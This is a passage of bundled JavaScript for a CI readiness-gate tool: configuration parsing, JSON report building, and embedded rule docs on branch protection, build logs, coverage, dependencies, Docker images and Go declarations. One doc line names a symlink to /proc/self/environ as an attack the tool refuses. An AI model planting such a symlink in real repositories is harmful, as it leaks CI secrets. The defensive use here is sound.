    sbomFormat: parseEnum(label("sbom-format"), get("sbom-format"), ["json", "xml"]),
    sbomSpecVersion: parseEnum(label("sbom-spec-version"), get("sbom-spec-version"), ["1.5", "1.6", "1.7"]),
    vulnerabilityScan: parseEnum(label("vulnerability-scan"), get("vulnerability-scan"), ["osv", "off"]),
    osvUrl: parseUrl(label("osv-url"), get("osv-url")),
    denyLicenses: parseLicenseList(label("deny-licenses"), raw["deny-licenses"]),
    report: outPath("report"),
    sarif: outPath("sarif"),
    maxAnnotations: parseNumber(label("max-annotations"), get("max-annotations"), 0, 1e3, true),
    annotations: parseEnum(label("annotations"), get("annotations"), ["workflow-commands", "check-run"]),
    prComment: parseEnum(label("pr-comment"), get("pr-comment"), ["off", "on", "on-change"]),
    sarifCategory: given("sarif-category") === void 0 ? void 0 : parseCategory(label("sarif-category"), get("sarif-category")),
    sarifRules: parseEnum(label("sarif-rules"), get("sarif-rules"), ["security", "all"]),
    uploadArtifact: parseArtifact(label("upload-artifact"), get("upload-artifact")),
    dependencyGraph: parseBoolean(label("dependency-graph"), get("dependency-graph")),
    privatePackages: parsePackageGlobs(label("private-packages"), raw["private-packages"]),
    // The action.yml default is an expression; outside a runner it arrives unexpanded.
    githubToken: token && !token.startsWith("${{") ? token : void 0,
    rulesDir: given("rules") ? resolve(rc.cwd, get("rules")) : void 0,
    cacheDir: parseCache(label("cache"), get("cache"), rc.cwd, root),
    paths: { ...file.paths },
    ruleSettings: file.rules,
    suppressions: file.suppressions,
    maxFileSize: file.maxFileSize ?? DEFAULT_MAX_FILE_SIZE,
    today: rc.today ?? isoToday()
  };
  if (opts.newFindingsOnly && !opts.baseline) {
    throw new ConfigurationError(`input 'new-findings-only' is true but input 'baseline' is not set; accepted: set baseline to a previous JSON report, or new-findings-only: false`);
  }
  if (opts.baseline && !existsSync(resolve(rc.cwd, opts.baseline))) fail(label("baseline"), opts.baseline, "the path of a previous readiness-gate JSON report");
  if (opts.rulesDir && !isDirectory(opts.rulesDir)) fail(label("rules"), get("rules"), "an existing directory of declarative rules");
  return Object.freeze(opts);
}
function refuseSlowGlobs(file, configRel) {
  const globs = [
    ...file.paths.ignore.map((g, i) => [`paths.ignore[${i}]`, g]),
    ...["generated", "runtime", "test", "example"].flatMap((k) => file.paths[k].map((g, i) => [`paths.${k}[${i}]`, g])),
    ...file.suppressions.map((s, i) => [`suppressions[${i}].path`, s.path])
  ];
  for (const [key, g] of globs) {
    const problem = globProblem(g);
    if (problem) throw new ConfigurationError(`config file ${configRel}: ${key}: '${g}' ${problem}`);
  }
}
function parseCache(what, v, cwd, root) {
  const t = v.trim();
  if (t === "false" || t === "") return null;
  if (t === "true") {
    if (FROM_SOURCE) return null;
    return defaultCacheDir();
  }
  const dir = resolve(cwd, t);
  const rel = relative(root, dir);
  if (rel === "" || !rel.startsWith("..") && !isAbsolute(rel)) fail(what, v, "true, false, or a folder outside the scanned directory");
  return dir;
}
function parseCategory(what, v) {
  if (v.length > 200 || !/^[\x21-\x7e](?:[\x20-\x7e]*[\x21-\x7e])?$/.test(v)) fail(what, v, "printable ASCII of at most 200 characters, e.g. readiness-gate/api");
  return v;
}
function parseArtifact(what, v) {
  if (v === "" || ["false", "False", "FALSE"].includes(v)) return null;
  if (["true", "True", "TRUE"].includes(v)) return "readiness-gate";
  if (v.length > 200 || /[":<>|*?\\/\r\n\u0000-\u001f]/.test(v)) fail(what, v, 'true, false, or an artifact name without " : < > | * ? \\ / or line breaks');
  return v;
}
function parsePackageGlobs(what, v) {
  const items = parseList(v);
  for (const g of items) {
    const problem = globProblem(g);
    if (problem) fail(what, g, `package name globs such as @acme/*, com.acme:*, acme-* (${problem})`);
  }
  return items;
}
function parseUrl(what, v) {
  try {
    const u = new URL(v);
    if (u.protocol !== "https:" && u.protocol !== "http:") throw new Error();
    return v.replace(/\/+$/, "");
  } catch {
    fail(what, v, "an http(s) URL");
  }
}
function isDirectory(p) {
  try {
    return statSync(p).isDirectory();
  } catch {
    return false;
  }
}
function relPosix(root, abs) {
  return within(root, abs) ? relative(root, abs).split(sep).join("/") || "." : abs.split("\\").join("/");
}

// src/evidence/metrics.ts
var LIST_MAX = 50;
var WORST_FILES = 10;
var round2 = (n) => Math.round(n * 100) / 100;
function evidenceMetrics(e) {
  if (!e) return {};
  const out = {};
  const t = e.tests;
  if (t.reports.length > 0) {
    out.tests = {
      reports: t.reports.length,
      unreadableReports: t.reports.filter((r) => r.error !== void 0).length,
      total: t.total,
      passed: t.passed,
      failed: t.failed,
      skipped: t.skipped,
      flaky: t.flaky,
      durationSeconds: t.durationSec,
      // Failed and flaky tests counted above but not listed anywhere (past the cap of listed tests).
      notListed: { failed: t.cut?.failed ?? 0, flaky: t.cut?.flaky ?? 0 },
      failures: [...t.failures, ...t.flakes].slice(0, LIST_MAX).map((p) => ({
        name: p.fullName,
        kind: p.kind,
        message: p.message ?? null,
        path: p.location?.path ?? null,
        line: p.location?.line ?? null
      }))
    };
  }
  const c = e.coverage;
  if (c.reports.length > 0 || c.threshold !== void 0) {
    out.coverage = {
      reports: c.reports.length,
      unreadableReports: c.reports.filter((r) => r.error !== void 0).length,
      linePercent: c.percent === null ? null : round2(c.percent),
      linesTotal: c.total,
      linesCovered: c.covered,
      threshold: c.threshold ?? null,
      files: c.files.length,
      worstFiles: c.files.filter((f) => f.covered < f.total).slice(0, WORST_FILES).map((f) => ({ path: f.path, lines: f.total, covered: f.covered, percent: round2(f.covered / f.total * 100), totalIfCovered: round2(percentIfCovered(c, f)) }))
    };
  }
  const b = e.build;
  if (b.reports.length > 0) out.build = { logs: b.reports.length, errors: b.errors, warnings: b.warnings, notListed: b.omitted ?? 0 };
  return out;
}

// src/report/json.ts
var SCHEMA_VERSION = 1;
function renderJson(r) {
  return `${JSON.stringify(buildReport(r), null, 2)}
`;
}
function buildReport(r) {
  return {
    schemaVersion: SCHEMA_VERSION,
    tool: { name: r.tool.name, version: r.tool.version },
    root: r.root,
    commit: r.commit,
    profile: { kind: r.profile.kind, source: r.profile.source, reasons: [...r.profile.reasons] },
    verdict: { blocked: r.verdict.blocked, reasons: [...r.verdict.reasons] },
    score: {
      value: r.score.value,
      grade: r.score.grade,
      areas: Object.fromEntries(AREAS.filter((a) => r.score.areas[a] !== void 0).map((a) => [a, r.score.areas[a]]))
    },
    counts: Object.fromEntries(SEVERITIES.map((s) => [s, r.counts[s]])),
    effortMinutes: r.effortMinutes,
    findings: r.findings.map(finding),
    suppressed: r.suppressed.map((f) => ({
      ...finding(f),
      suppression: f.suppressed ? {
        source: f.suppressed.source,
        reason: f.suppressed.reason,
        location: location(f.suppressed.location),
        expires: f.suppressed.expires ?? null
      } : null
    })),
    gaps: r.gaps.map((g) => ({ area: g.area, component: g.component, status: g.status, evidence: g.evidence ?? null })),
    checks: r.outcomes.map((o) => ({ ruleId: o.ruleId, status: o.status, reason: o.reason ?? null, findings: o.findings })),
    metrics: metrics(r),
    sbom: r.sbom ? sbomBlock(r.sbom) : null,
    skipped: Object.fromEntries(SKIP_REASONS.map((k) => [k, r.skipped[k] ?? 0])),
    nonUtf8: [...r.nonUtf8].sort(),
    malformed: [...r.malformed].sort((a, b) => cmp(a.path, b.path) || cmp(a.kind, b.kind) || cmp(a.reason, b.reason)).map((m) => ({ path: m.path, kind: m.kind, reason: m.reason })),
    // Additive (schemaVersion 1): left out of hand-built results that carry no policy.
    ...r.policy ? { policy: policyBlock(r.policy) } : {},
    // Additive: what kind of code each file is (the findings carry their file's class).
    ...r.map ? { repositoryMap: mapBlock(r.map) } : {}
  };
}
function mapBlock(m) {
  return {
    units: m.units.map((u) => ({ root: u.root, kind: u.kind, name: u.name, entries: [...u.entries], reason: u.reason })),
    roots: m.roots.filter((x) => x.layer !== "convention").slice().sort((a, b) => cmp(a.path, b.path) || cmp(a.class, b.class)).map((x) => ({ path: x.path, class: x.class, reason: x.reason })),
    counts: Object.fromEntries(FILE_CLASSES.map((c) => [c, m.counts[c] ?? 0]))
  };
}
function policyBlock(p) {
  const o = p.origin;
  return {
    source: o.kind,
    commit: o.kind === "base-commit" ? o.sha : null,
    via: o.kind === "base-commit" ? o.via : null,
    file: p.configFile,
    pullRequest: p.pullRequest,
    notice: o.kind === "defaults" ? p.notices[0] ?? o.reason : null,
    changes: p.changes.map((c) => ({ kind: c.kind, path: c.path, line: c.line ?? null, applied: c.applied, directive: c.directive ?? null, details: [...c.details] }))
  };
}
function sbomBlock(s) {
  const v = s.vulnerabilities;
  return {
    path: s.path,
    format: s.format,
    specVersion: s.specVersion,
    components: s.components,
    ecosystems: sortKeys(s.ecosystems),
    direct: s.direct,
    transitive: s.transitive,
    dev: s.dev,
    licenses: { spdx: sortKeys(s.licenses.spdx), unknown: s.licenses.unknown },
    vulnerabilities: v ? {
      checked: v.checked,
      reason: v.reason ?? null,
      components: v.components,
      bySeverity: { critical: v.bySeverity.critical, high: v.bySeverity.high, medium: v.bySeverity.medium, low: v.bySeverity.low, unknown: v.bySeverity.unknown },
      withheld: { ...v.withheld ?? {} }
    } : null,
    lockfiles: s.lockfiles.map((l) => ({ path: l.path, ecosystem: l.ecosystem, status: l.status, components: l.components, reason: l.reason ?? null })),
    skipped: s.skipped.map((k) => ({ path: k.path, name: k.name, reason: k.reason }))
  };
}
function finding(f) {
  return {
    ruleId: f.ruleId,
    severity: f.severity,
    certainty: f.certainty,
    gap: f.gap ?? null,
    fileClass: f.fileClass ?? null,
    area: f.area,
    title: f.title,
    messageId: f.messageId,
    data: f.data,
    message: f.message,
    location: location(f.location),
    // Additive (schemaVersion 1): only on a finding reported once for several copies.
    ...f.related !== void 0 && f.related.length > 0 ? { related: f.related.map(location) } : {},
    evidence: f.evidence ?? null,
    remediation: f.remediation,
    effortMinutes: f.effortMinutes,
    fingerprint: f.fingerprint,
    // null: no baseline was given, so nothing can be said about new or existing.
    baseline: f.baseline ?? null
  };
}
function location(l) {
  const out = { path: l.path };
  for (const k of ["line", "column", "endLine", "endColumn"]) if (l[k] !== void 0) out[k] = l[k];
  return out;
}
function metrics(r) {
  const known = ["tests", "coverage", "typeCoverage"];
  const out = {};
  const all = { ...r.metrics, ...evidenceMetrics(r.evidence) };
  for (const k of known) out[k] = all[k] !== void 0 ? sortKeys(all[k]) : null;
  out.files = { scanned: r.files.scanned, bytes: r.files.bytes, source: r.files.source };
  for (const [k, v] of Object.entries(all).sort((a, b) => cmp(a[0], b[0]))) {
    if (known.includes(k) || k === "files") continue;
    out[k] = sortKeys(v);
  }
  return out;
}
function sortKeys(v) {
  if (v === void 0) return null;
  if (Array.isArray(v)) return v.map(sortKeys);
  if (v !== null && typeof v === "object" && !(v instanceof Date)) {
    if (v instanceof Map) return sortKeys(Object.fromEntries(v));
    if (v instanceof Set) return [...v].map(sortKeys);
    return Object.fromEntries(
      Object.keys(v).sort().map((k) => [k, sortKeys(v[k])])
    );
  }
  if (typeof v === "number" && !Number.isFinite(v)) return null;
  return v;
}
function cmp(a, b) {
  return a < b ? -1 : a > b ? 1 : 0;
}

// raw:rules/checks/branch-protection-missing.md
var branch_protection_missing_default = '# branch-protection-missing\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | operations | 15 min | `src/checks/branch-protection-missing/` |\n\nThe default branch has neither branch protection nor a ruleset.\n\n## What is detected\n\nRead through the GitHub REST API with the `github-token` input (the workflow\'s `GITHUB_TOKEN` by default), at `GITHUB_API_URL` (GitHub Enterprise Server included) for the repository `GITHUB_REPOSITORY`:\n\n1. `GET /repos/{owner}/{repo}` — the default branch;\n2. `GET /repos/{owner}/{repo}/branches/{branch}` — `protected` (classic branch protection);\n3. `GET /repos/{owner}/{repo}/rules/branches/{branch}` — the rules of every active ruleset (repository or organisation) that apply to it.\n\nNeither: a finding at `.`. When the settings cannot be read — no token, no repository, HTTP 401/403/404, no answer within 10 s or within the run\'s 5 s network budget for services that do not answer (shared with OSV) — a **notice** says so, the check is `inconclusive` (or `not applicable` without token), and no finding is made. The check fills the **branch protection** gap row.\n\n## Why it matters\n\nAnyone with write access can push to the branch production is built from, force-push over history or delete it, and merge without review or passing checks — including this gate.\n\n## How to fix\n\nSettings → Rules → Rulesets (or Branches): require a pull request with at least one approval, require the CI status checks (this gate included), block force pushes and deletion.\n\n## Not detected (near-misses)\n\n- Whether the protection is strong enough (reviews count, required checks): any protection or ruleset rule counts.\n- Runs outside GitHub Actions without `GITHUB_REPOSITORY`: not applicable.\n\n## Example findings\n\n> **P1 branch-protection-missing** `.`\n> The default branch `main` of acme/shop has no branch protection and no ruleset: anyone with write access can push to it directly, force-push or delete it, and merge without review or passing checks.\n\n## How to suppress\n\nTurn the rule off in the configuration file (`rules: { branch-protection-missing: off }`) for repositories that are protected by other means, or suppress it with a reason: `{ rule: branch-protection-missing, path: ".", reason: "..." }`.\n';

// raw:rules/checks/build-error.md
var build_error_default = "# build-error\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** (errors) / **P2** (warnings of a log without errors) | build | 30 min | `src/checks/build-error/` |\n\nA compiler, type checker or linter reported an error in the logs given by `build-logs`.\n\n## What is detected\n\nEach diagnostic of the logs, at its file and line (paths made relative to the repository,\nincluding absolute paths of the CI machine), deduplicated across logs, ANSI colours and the\ntimestamps of downloaded GitHub Actions logs stripped:\n\n| tool | line format |\n|---|---|\n| go, gcc/clang, eslint `-f unix` | `path:line:col: message` (`error:`/`warning:`, `[Error/rule]`) |\n| tsc | `path(line,col): error TS2304: message` |\n| mypy, javac | `path:line: error: message` |\n| pyright | `path:line:col - error: message` |\n| rustc / cargo | `error[E0425]: message` then `--> path:line:col` |\n| eslint stylish (default) | a path line, then `  line:col  error  message  rule` |\n\nA log with errors gives one P0 per error and ignores its warnings; a log with only warnings\ngives P2 findings. Notes (`note:`) are not diagnostics.\n\nParsing is linear in the log whatever it holds (a 1 MB line of spaces, colons or escape codes\ncosts milliseconds); a line is examined up to 16 KB and a message quoted up to 2,000 characters.\nPast 1,000 diagnostics, the rest are counted in one finding (P0 when errors were cut) and in\n`metrics.build.notListed`. A log that `build-logs` matches and that is a symbolic link (the\nclassic `logs/env.log -> /proc/self/environ`), a device or FIFO, lies outside the workspace or\ncannot be read is never read and **blocks the run**; a log committed to the repository is used\nonly when `build-logs` names it by its exact path.\n\n## When it is proven\n\nA finding is `proven` (P0) when a log given by `build-logs` holds an error line in a format the parser knows (`path:line:col: message`, tsc, mypy/pyright, rustc, javac): the compiler, type checker or linter wrote it. When errors are past the listing cap, one P0 finding counts the rest (`omitted`).\n\n- Warnings are P2 (`warning`, `omittedWarnings`), and only when a log has no errors.\n- **Likely:** never; a case the rule cannot prove is not reported at all.\n- **Where the file lives** does not change it: the finding keeps its severity in every class of file (test, tooling, docs, example...).\n\n## Why it matters\n\nAn error in the build or type check is a program that does not compile or that the checker has\nproven wrong: it fails at start-up or at the first call.\n\n## How to fix\n\nFix the error at the line given (the message is the tool's own) and run the tool again. Save\nthe log for this step with `tsc --noEmit | tee tsc.log` (and `if: always()`), and list it in\n`build-logs`.\n\n## Not detected (near-misses)\n\n- Lines that only look like a place: times (`12:30:45: starting`), URLs with ports,\n  `npm ERR!` lines, summary lines (`Found 2 errors`, `error: aborting due to 1 previous error`).\n- Logs not named in `build-logs`: there is no auto-discovery (not applicable).\n- A `build-logs` glob that matches no file the job wrote makes the rule inconclusive, and blocks the\n  run: the input names a log that is not there.\n\n## Example findings\n\n> **P0 build-error** `src/cart.ts:14`\n> tsc error TS2322: Type 'string' is not assignable to type 'number'.\n\n## How to suppress\n\nFix it. A known warning can be suppressed inline on the line with a reason\n(`// readiness-gate-ignore build-error: reason`).\n";

// raw:rules/checks/coverage-below-threshold.md
var coverage_below_threshold_default = '# coverage-below-threshold\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** | tests | 2 h | `src/checks/coverage-below-threshold/` |\n\nTotal line coverage is below the agreed bar.\n\n## What is detected\n\nOnly when a threshold is set (`coverage-threshold`, or `thresholds.coverage` in the\nconfiguration file). The total is computed over every file of every coverage report of the run:\nCobertura XML, lcov, coverage.py JSON, Istanbul `coverage-final.json` / `coverage-summary.json`,\nGo cover profiles and JaCoCo XML. A file present in several reports (unit and integration runs,\na package report and a root report) is merged line by line and counted once; paths are mapped to\nthe repository (Cobertura `<source>` roots, lcov `SF:` paths from another machine, Go module\npaths through `go.mod`, JaCoCo packages under `src/main/java`...).\n\nThe message gives the measured and required figures and the three files that cost the most\n(most uncovered lines), each with what the total would be if it were fully covered. The\nlocation is the costliest file of the repository. The summary has the full table and the\nwhat-if line. A figure below the threshold is never rounded up to it (79.96% is shown as 79.9%).\n\nGo profiles count the lines of statement blocks; JaCoCo counts a line as covered when any of its\ninstructions ran.\n\n## When it is proven\n\nA finding is `proven` (P0) when `coverage-threshold` is set, the coverage reports of this run could be read, and the total line coverage they measure (every file of every report, each counted once) is below the threshold.\n\n- **Likely:** never; a case the rule cannot prove is not reported at all. No threshold, or no usable report, means no finding (see `coverage-report-missing`).\n- **Where the file lives** does not change it: the finding keeps its severity in every class of file (test, tooling, docs, example...).\n\n## Why it matters\n\nThe bar is the team\'s own promise about how much of the code its tests exercise. The what-if\nlist says where an hour of tests moves the number most.\n\n## How to fix\n\nWrite tests for the files at the top of the list first, or change the threshold deliberately if\nit is wrong for this code.\n\n## Not detected (near-misses)\n\n- Coverage at or above the threshold (a `present` row in the gap table).\n- No threshold set: not applicable. No report: [`coverage-report-missing`](coverage-report-missing.md).\n- Branch or function coverage: only lines are compared.\n\n## Example findings\n\n> **P0 coverage-below-threshold** `src/zerodb_integration.py`\n> Line coverage is 67.2% (704 of 1,048 lines), below the required 80%. The files that cost the\n> most: src/zerodb_integration.py: 0% of 138 lines — covering it would lift the total from 67.2%\n> to 80.3%; src/shop/db.py: 65% of 200 lines — covering it would lift the total from 67.2% to 73.9%; …\n\n## How to suppress\n\nChange the threshold, or suppress with a reason and an expiry:\n`{ rule: coverage-below-threshold, reason: "raising coverage in Q1", expires: 2027-03-31 }`.\n';

// raw:rules/checks/coverage-report-missing.md
var coverage_report_missing_default = "# coverage-report-missing\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | tests | 15 min | `src/checks/coverage-report-missing/` |\n\nA coverage threshold is set but there is no coverage to compare.\n\n## What is detected\n\nWhen a threshold is set (`coverage-threshold` or `thresholds.coverage`):\n\n- `coverage-reports` matches no file, or nothing was found in the usual places (`lcov.info`,\n  `coverage.xml`, `cobertura*.xml`, `coverage-final.json`, `coverage-summary.json`,\n  `coverage.json`, `jacoco*.xml`, `coverage.out`...);\n- every report is empty, truncated, not XML/JSON or otherwise unreadable (named, with why);\n- the reports measure no line.\n\nA coverage report committed to the repository does not count (the pull request wrote it, not this\njob's test step): alone, it leaves the threshold with no report, so this rule fails rather than\nthe threshold passing. Naming it by its exact path in `coverage-reports` uses it, with a warning.\nA report that `coverage-reports` matches and that is a symbolic link, a device or FIFO, lies\noutside the workspace, is truncated or larger than the JSON cap **blocks the run**, and so does a\n`coverage-reports` input that matches no file the job wrote.\n\nIt also fills the **Coverage** row of the gap table when it is missing.\n\n## Why it matters\n\nWithout a report the threshold gates nothing, and a pipeline that lost its coverage step would\nlook the same as one that meets the bar.\n\n## How to fix\n\nMake the test step write a coverage report before this step and point `coverage-reports` at\nit: `pytest --cov --cov-report=xml`, `vitest --coverage` / `jest --coverage` with the lcov or\ncobertura reporter, `go test -coverprofile=coverage.out ./...`, JaCoCo's XML report.\n\n## Not detected (near-misses)\n\n- No threshold set: not applicable, whatever the reports.\n- One unreadable report beside a readable one: a line in the summary only.\n\n## Example findings\n\n> **P1 coverage-report-missing** `.`\n> A coverage threshold of 80% is set, but no coverage report was found (looked for lcov.info,\n> coverage.xml, …).\n\n## How to suppress\n\nRemove the threshold, or turn the rule off (`rules: { coverage-report-missing: off }`).\n";

// raw:rules/checks/dependency-version-conflict.md
var dependency_version_conflict_default = "# dependency-version-conflict\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | supply-chain | 60 min | `src/checks/dependency-version-conflict/` |\n\nThe same package constrained incompatibly inside one project.\n\n## What is detected\n\n- **Two Python manifests of one directory that cannot both hold**: the PEP 440\n  specifiers of `requirements*.txt`, `pyproject.toml` (PEP 621, dependency\n  groups, Poetry, PDM, uv tables) and `Pipfile` for the same distribution\n  (names PEP 503-normalized) are evaluated with `@renovatebot/pep440`. They\n  conflict when no version satisfies both: every version either names, and the\n  next patch, minor and major after each, is tried (so `>1.0` meets `<2.0` at\n  1.0.1). Example: `numpy==1.24.4` in requirements.txt, `numpy>=2.0` in\n  pyproject.toml.\n- **A lockfile that pins outside its manifest's range**: package.json ranges\n  against the version locked beside it (package-lock, npm-shrinkwrap, pnpm,\n  yarn; only the lockfile of the manager `packageManager` names, when one is\n  named, and a workspace member's root lock when that records it, as in\n  [`lockfile-out-of-sync`](lockfile-out-of-sync.md)), evaluated\n  with `semver` as npm does; pyproject constraints against\n  poetry.lock / uv.lock / pdm.lock / Pipfile.lock. Poetry's `^` and `~`\n  constraints are rewritten to PEP 440 first (`^1.2` → `>=1.2,<2`).\n\n## Why it matters\n\nTwo constraints that cannot both hold mean one of them is silently ignored:\nthe environment built from requirements.txt is not the one pyproject.toml\ndescribes, and whichever file the deploy uses decides what runs. A lockfile\noutside its range means the next `install` changes the version under you.\n\n## How to fix\n\nWrite the constraint once (pyproject.toml is the source; generate\nrequirements files from it with `pip-compile` or `uv export`), and regenerate\nthe lockfile after changing a range.\n\n## Not detected (near-misses)\n\n- Ranges that overlap (`>=1.0,<2.0` and `>=1.5`), including exclusive bounds\n  that meet at a later version.\n- Specs that are not registry ranges: git URLs, paths, tags, `workspace:`,\n  npm aliases; wildcards (`==1.*`) compared with other ranges.\n- Different projects of a monorepo (each directory is judged on its own).\n- Transitive constraints inside the lockfile (the resolver already settled them).\n\n## Example findings\n\n> **P1 dependency-version-conflict** `requirements.txt:2`\n> numpy is constrained ==1.24.4 in requirements.txt and >=2.0 in\n> pyproject.toml: no version satisfies both.\n\n> **P1 dependency-version-conflict** `package.json:4`\n> express is constrained ^4.19.0 in package.json, but package-lock.json pins\n> 4.18.2, outside that range.\n\n## How to suppress\n\n`# readiness-gate-ignore dependency-version-conflict: <reason>` on the line in\nrequirements.txt or pyproject.toml, or a configuration suppression.\n";

// raw:rules/checks/docker-outdated-base-image.md
var docker_outdated_base_image_default = "# docker-outdated-base-image\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P2** | supply-chain | 30 min | `src/checks/docker-outdated-base-image/` |\n\nA base image whose runtime or distribution is past end of life.\n\n## What is detected\n\nEach resolved `FROM` image is looked up in the dated table [`rules/eol.yml`](../eol.yml) (Python, Node.js, Go, Ruby, PHP, Java (Temurin, Corretto...), .NET, PostgreSQL, MySQL, Alpine, Debian, Ubuntu, CentOS; `openjdk` images deprecated): the release line of the tag (`python:3.9-slim` → Python 3.9, `golang:1.21-alpine` → Go 1.21) and the distribution a tag suffix names (`-buster` → Debian 10, `-alpine3.16` → Alpine 3.16). A line whose end-of-life date is before the run's date is reported at the `FROM` line, with the date, the current supported line and the table's `as-of` date.\n\n## Why it matters\n\nNo more security fixes reach an end-of-life runtime or distribution: every new CVE in it stays open in production.\n\n## How to fix\n\nMove to a supported line (see the message), rebuild, run the tests; pin the new tag and let Dependabot or Renovate keep it current.\n\n## Not detected (near-misses)\n\n- Tags without a version line (`python:3`, `node:lts`, `latest`), unknown images, lines missing from the table.\n- A stage of a dockerfile-x `INCLUDE`d file (`FROM base`): the included file's own `FROM` is judged where it is written.\n- Dockerfiles under examples, tests, fixtures and docs.\n- The table is dated: review `as-of` when it is more than a few months old; dates after it are the projects' announced ends of support.\n\n## Example findings\n\n> **P2 docker-outdated-base-image** `Dockerfile:1`\n> `FROM golang:1.21-alpine`: go 1.21 reached end of life on 2024-08-13 and gets no security fixes; the current supported line is 1.27 (table of 2026-11-01).\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore docker-outdated-base-image: <why this is safe>`; or in the configuration file, with a reason: `{ rule: docker-outdated-base-image, path: \"...\", reason: \"...\" }`; or turn the rule off: `rules: { docker-outdated-base-image: off }`.\n";

// raw:rules/checks/docker-unpinned-base-image.md
var docker_unpinned_base_image_default = '# docker-unpinned-base-image\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | supply-chain | 10 min | `src/checks/docker-unpinned-base-image/` |\n\nA Dockerfile `FROM` with no tag or with `latest`.\n\n## What is detected\n\nEvery `FROM` of every Dockerfile (`Dockerfile`, `Dockerfile.*`, `Dockerfile-*`, `*.Dockerfile`, and the same names for `Containerfile`, capitalised or not; not documents such as `Dockerfile.md` nor source files named for one such as `dockerfile.py`), after substituting `ARG` defaults declared before the first `FROM` (`${VAR}`, `$VAR`, `${VAR:-default}`), whose image has neither a tag nor a digest, or the tag `latest`. The finding points at the `FROM` line; the message shows the ARG as written and as resolved.\n\n## Why it matters\n\nThe same Dockerfile builds a different image from one day to the next: builds stop being reproducible, and a broken or compromised upstream release reaches production without a commit.\n\n## How to fix\n\nPin a version tag, better with its digest, and let Dependabot (`package-ecosystem: docker`) or Renovate propose updates:\n\n```dockerfile\nFROM python:3.12-slim@sha256:<digest>\n```\n\n## Not detected (near-misses)\n\n- `scratch`; a `FROM` naming an earlier stage (`FROM build`) or its index.\n- With the dockerfile-x frontend (`# syntax = devthefuture/dockerfile-x`): a bare `FROM base` naming a\n  stage of a file it `INCLUDE`s (read relative to the Dockerfile\'s folder, else the repository root;\n  never outside the repository), also in the included fragments themselves; `FROM ./other.dockerfile`.\n  When an included file cannot be read, bare names (no registry, path, tag or digest) are not judged.\n- A digest, with or without a tag (`node:latest@sha256:...`).\n- An `ARG` with no default (the build passes it: we cannot tell).\n- Dockerfiles under examples, tests, fixtures and docs.\n\n## Example findings\n\n> **P1 docker-unpinned-base-image** `Dockerfile:9`\n> `FROM node` has no tag: it means `latest`, so every build may start from a different base image.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore docker-unpinned-base-image: <why this is safe>`; or in the configuration file, with a reason: `{ rule: docker-unpinned-base-image, path: "...", reason: "..." }`; or turn the rule off: `rules: { docker-unpinned-base-image: off }`.\n';

// raw:rules/checks/go-duplicate-declaration.md
var go_duplicate_declaration_default = "# go-duplicate-declaration\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** | build | 30 min | `src/checks/go-duplicate-declaration/` |\n\nThe same function, or the same method on the same receiver type, declared twice\nin one Go package: `go build` stops with \"X redeclared in this block\".\n\n## What is detected\n\nTop-level `func` declarations are read from each file's tokens (an exact Go\nlexer; tree-sitter for a file laid out in a way the lexer does not model). A package is a folder plus its package clause (`foo` and\n`foo_test` in one folder are two packages). Methods are keyed by the receiver's\nbase type: `func (s *Server) Run()` and `func (Server) Run()` collide, and so do\n`Server[T]` receivers.\n\nTwo files are compared only when their build constraints can hold together: the\n`//go:build` expression (or the older `// +build` lines) and the `_GOOS`,\n`_GOARCH`, `_GOOS_GOARCH` file-name suffixes are combined and checked for one\nconfiguration satisfying both: exactly one GOOS and one GOARCH (`unix` true for\nthe Unix systems, `linux` also for `android`...), every other tag (`cgo`,\n`go1.21`, custom tags) free, `ignore` never set.\n\n```go\n// server/a.go\nfunc (s *Server) Run() {}\n// server/b.go\nfunc (s Server) Run() {}   // P0: Server.Run declared twice (server/a.go:5)\n```\n\nThe message names both locations and both files' constraints.\n\n## When it is proven\n\nA finding is `proven` (P0) when the same function, or the same method on the same receiver base type, is declared twice in one package (the same folder and the same package clause, so `x` and `x_test` are two), in one file or in two files whose build constraints (`//go:build` lines, `_GOOS`/`_GOARCH` name suffixes) can hold together in the plain build (`go build`, no `-tags`; the toolchain's own tags `cgo`, `gc`, `gccgo` and `go1.N` may be either) of one of Go's first-class ports (linux, darwin or windows on amd64, arm64, 386 or arm). Folders the go tool ignores (`testdata/`, `_x`, `.x`) are skipped.\n\n- **Likely:** two files that build together only on other ports (`//go:build !windows` beside `//go:build !linux && !darwin && !freebsd && !windows` clash on openbsd and solaris alone): the project may never build for them, so no release is proven broken; the finding says so.\n- **Likely:** two files of a `package main` folder that each declare `main`: they never compile as one package, so whatever builds them builds them one at a time (`go run x.go`, `go build scripts/healthcheck.go`, muety/wakapi's `scripts/`), and a clash between them says nothing about those builds.\n- **Likely:** two files that build together only when a build sets a user tag (`//go:build man` beside an unconstrained `main.go`): such files are often programs run alone (`go run -tags man man.go`, a `go:generate` line) and never part of the package's build; the finding names the tags. Files whose constraints cannot both be active are not compared.\n- **Where the file lives** (the repository map's class of the importing file): P0 only in `runtime` code; at most P1 in `test`, `tooling`, `generated` and `vendored` code; at most P2 in `docs` and `example` code. The message then ends with the reason (\"(In test code or test data.)\").\n\n## Why it blocks\n\nThe package does not compile, so nothing that imports it builds either.\n\n## How to fix\n\nDelete or rename one of the declarations; when each is meant for a different\nplatform or build, give the files exclusive constraints (`//go:build linux` /\n`//go:build !linux`, or `_linux.go` / `_windows.go` names).\n\n## Not detected (near-misses)\n\n| code | why it is not a finding |\n|---|---|\n| `open_linux.go` and `open_windows.go` both declaring `Open` | never built together |\n| `//go:build cgo` and `// +build !cgo` | exclusive |\n| several `func init()` | Go allows it |\n| the same method name on two receiver types | different methods |\n| `package p` and `package p_test` in one folder | two packages |\n| two `//go:build ignore` generators declaring `main` | never part of a build |\n| files under `testdata/`, `_x/`, `.x/`, files named `_x.go` | ignored by the go tool |\n\nNot detected: duplicate types, variables and constants (the compiler reports\nthose too, but they are rarer after a merge); constraints on `GOEXPERIMENT`\nor the release tags beyond treating them as free.\n\n## Example finding\n\n> **P0 go-duplicate-declaration** `server/b.go:3`\n> Method `Server.Run` is declared twice in package `server`: here and at server/a.go:5. Both files\n> can be built together 